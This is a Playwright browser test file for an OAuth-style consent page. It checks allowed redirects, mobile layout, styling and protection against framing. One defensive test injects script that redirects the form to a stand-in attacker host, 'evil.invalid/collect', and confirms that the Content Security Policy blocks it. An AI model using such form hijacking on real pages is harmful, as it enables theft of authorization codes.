import { existsSync } from 'node:fs';
import { type Browser, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Company, startCompany } from './company.ts';
import { type Desk, openDesk } from './desk.ts';

const executablePath = process.env.SIDELIGHT_TEST_CHROMIUM ?? '/usr/bin/chromium';
const isThere = existsSync(executablePath);
// CI looks for this line: there, a skipped browser is a failure.
if (!isThere) console.log(`SKIPPED chromium: there is none at SIDELIGHT_TEST_CHROMIUM (${executablePath})`);

describe.skipIf(!isThere)('the pages in Chromium', () => {
  let company: Company;
  let desk: Desk;
  let browser: Browser;
  beforeAll(async () => {
    company = await startCompany();
    desk = await openDesk(company.policy());
    const quiet = ['--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'];
    browser = await chromium.launch({
      executablePath,
      args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', ...quiet],
    });
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
    await desk?.close();
    await company?.close();
  });

  /** A page of a browser of its own, and what its console said. */
  async function open(url: string): Promise<{ page: Page; said: string[]; asked: string[] }> {
    const context = await browser.newContext({ viewport: { width: 375, height: 740 } });
    const page = await context.newPage();
    const [said, asked]: [string[], string[]] = [[], []];
    page.on('console', (message) => said.push(message.text()));
    page.on('request', (request) => asked.push(request.url()));
    await page.goto(url);
    return { page, said, asked };
  }

  it.each([
    'http://127.0.0.1:9/answer',
    'http://localhost:9/answer',
    'http://[::1]:9/answer',
    'https://client.invalid/callback',
    'cursor://anysphere.cursor-mcp/oauth/callback',
  ])('sends the answer to the client at %s', async (redirectUri) => {
    const { uid, url } = desk.begin({ client: { redirectUri } });
    const { page, said, asked } = await open(url);
    expect(said).toEqual([]);
    const left = page.waitForRequest((request) => request.url().startsWith(redirectUri));
    await page.click('button[value=allow]');
    await left;
    expect(asked.at(-1)).toBe(`${redirectUri}?code=c`);
    expect(said.filter((line) => line.includes('Content Security Policy'))).toEqual([]);
    expect(desk.outcomes.get(uid)?.scopes).toHaveLength(2);
    await page.context().close();
  });

  it('does not send the answer where the page was not made for', async () => {
    const { url } = desk.begin({ client: { redirectUri: 'https://client.invalid/callback' } });
    const { page, said, asked } = await open(url);
    await page.evaluate(`document.querySelector('form').action = 'https://evil.invalid/collect'`);
    await page.click('button[value=allow]', { noWaitAfter: true });
    await expect.poll(() => said.join()).toContain('form-action');
    expect(asked.some((each) => each.includes('evil.invalid'))).toBe(false);
    await page.context().close();
  });

  it('fits a phone, has its style, and is not shown in a frame', async () => {
    const { url } = desk.begin();
    const { page, said } = await open(url);
    expect(await page.evaluate('document.documentElement.scrollWidth <= window.innerWidth')).toBe(true);
    expect(await page.evaluate(`getComputedStyle(document.querySelector('button.main')).backgroundColor`)).toBe(
      'rgb(11, 92, 173)',
    );
    await page.emulateMedia({ colorScheme: 'dark' });
    expect(await page.evaluate('getComputedStyle(document.body).backgroundColor')).toBe('rgb(16, 21, 28)');
    const framed = page.url();
    await page.goto(`${desk.origin}/nothing-of-ours`);
    await page.evaluate(`document.body.innerHTML = '<iframe src="${framed}"></iframe>'`);
    await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
    expect(said.join()).toContain('frame-ancestors');
    await page.context().close();
  });
});
